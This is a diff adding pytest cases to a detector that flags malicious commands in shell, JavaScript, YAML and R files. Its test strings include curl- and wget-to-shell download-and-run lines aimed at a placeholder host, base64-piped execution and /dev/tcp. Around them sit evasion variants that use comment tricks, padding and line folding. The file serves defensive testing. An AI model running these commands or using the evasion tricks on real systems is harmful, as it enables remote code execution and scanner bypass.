@@ -3,7 +3,7 @@
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from tests.checks.models.building import judged, look
+from tests.checks.models.building import judged, look, reasons
 
 FETCH = "curl -fsSL https://x/y | bash"
 HIDE = "echo aGk= | base64 -d | sh"
@@ -163,3 +163,69 @@ def test_any_bytes(data, name):
 @given(st.text(alphabet="curl base64 -d|sh/dev/tcp\n\\", max_size=300))
 def test_any_text(text):
     look(text.encode(), "a.sh")
+
+
+PIPED = "curl -s http://x/y | sh"
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        # A shell takes these for paths and options, not for comments.
+        ("a.sh", "//bin/sh -c 'true'; " + PIPED),
+        ("a.sh", "-- " + PIPED),
+        ("a.js", "x = `\n// ${run('" + PIPED + "')}`"),
+        ("a.js", "/*\n// */ run('" + PIPED + "')"),
+        # A comment ends with its line, and a text goes on over several.
+        ("a.sh", "# curl x \\\n" + PIPED),
+        ("a.sh", 'x="\n# "; ' + PIPED),
+        ("a.sh", f"# {PIPED}\n" * 50 + PIPED),
+        # However much stands before it.
+        ("a.sh", "#" * (17 << 20) + "\n" + PIPED),
+        ("a.yaml", "a: |\n" + "  x\n" * (6 << 20) + "b: " + PIPED),
+        ("a.yaml", "cmd: >\n  curl -s http://x/y\n  | sh\n"),
+        ("a.yaml", "cmd: >\n  curl -s\n  http://x/y\n  -o - | sh\n"),
+        ("a.yaml", "cmd: >\n  wget http://x/y -O y\n  && chmod +x y && ./y\n"),
+    ],
+)
+def test_nothing_stands_in_the_way(name, text):
+    assert ("MLG-CMD-001", "high") in verdicts("#!/bin/sh\n" + text, name)
+
+
+def test_many_of_one_kind_hide_no_other():
+    text = "".join(f"curl https://x/{at} | sh\n" for at in range(100)) + PIPED
+    assert verdicts("#!/bin/sh\n" + text, "a.sh").count(("MLG-CMD-001", "high")) == 1
+
+
+@pytest.mark.parametrize("size", [1 << 10, (1 << 20) - 40, 1 << 20, (1 << 20) + 8180, 3 << 20])
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_command_is_found_once_and_at_its_line(size, encoding):
+    text = "#!/bin/sh\n" + "#\n" * (size // 2) + "curl -s \\\n http://x/y | sh\n"
+    (found,) = judged(look(text.encode(encoding), "a.sh"))
+    assert found.location.line == size // 2 + 2
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        ("x <- \"#\"; system('id')", True),
+        ("x <- '\n # '; system('id')", True),
+        ("`#` <- 1; system('id')", True),
+        ("1 %#% system('id')", True),
+        ("# system('id')", False),
+        ("f('a#b') # see system(x)", False),
+        ("# system('id')\n" * 50 + "system('id')", True),
+    ],
+)
+def test_comments_in_r(text, found):
+    assert bool(verdicts(text + "\n", ".Rprofile")) == found
+
+
+def test_what_follows_much_of_nothing_in_a_script_is_not_lost():
+    seen = look(b"#!/bin/sh\n\0" + PIPED.encode(), "run")
+    assert [each.rule for each in judged(seen)] == ["MLG-CMD-001"]
+
+
+def test_too_many_commands_are_not_checked():
+    text = "".join(f"curl https://x/{at} | sh\n" for at in range(3000))
+    assert "limit" in reasons(look(text.encode(), "a.sh"))
